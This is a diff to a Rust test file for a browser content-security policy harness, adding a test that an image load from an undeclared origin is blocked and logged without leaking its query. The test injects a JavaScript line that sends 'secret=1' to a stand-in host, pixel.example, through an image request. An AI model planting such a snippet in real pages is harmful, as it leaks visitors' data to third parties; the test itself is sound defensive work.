@@ -1,7 +1,10 @@
 //! Origins that the policy does not declare: the browser blocks them, whatever the visitor allowed.
 
 use super::town::Town;
+use policy_tests::logs::Logs;
 use serde_json::json;
+use std::time::{Duration, Instant};
+use tokio::time::sleep;
 
 /// Every way to load from a stranger, and the directive that blocks it.
 const WAYS: [(&str, &str); 6] = [
@@ -50,6 +53,23 @@ async fn an_undeclared_origin_is_blocked_by_the_browser_whatever_is_allowed() {
         let visited = town.hosts(&[]).await;
         assert!(!visited.contains(&"tracker.example".to_owned()), "{visited:?}");
     }
+}
+
+#[tokio::test]
+async fn an_undeclared_origin_is_reported_with_its_declaration() {
+    let logs = Logs::collect();
+    let Some(mut town) = Town::start().await else { return };
+    town.choose(&[("all", "allow")]).await;
+    town.open("/").await;
+    town.look("void (new Image().src = 'https://pixel.example/p.gif?secret=1')").await;
+    let begun = Instant::now();
+    while !logs.text().contains("pixel.example") {
+        assert!(begun.elapsed() < Duration::from_secs(70), "{}", logs.text());
+        sleep(Duration::from_millis(50)).await;
+    }
+    let text = logs.text();
+    assert!(text.contains("image: [\"https://pixel.example\"]"), "{text}");
+    assert!(!text.contains("secret"), "{text}");
 }
 
 /// Of a vendor that is declared, what another purpose loads stays blocked.
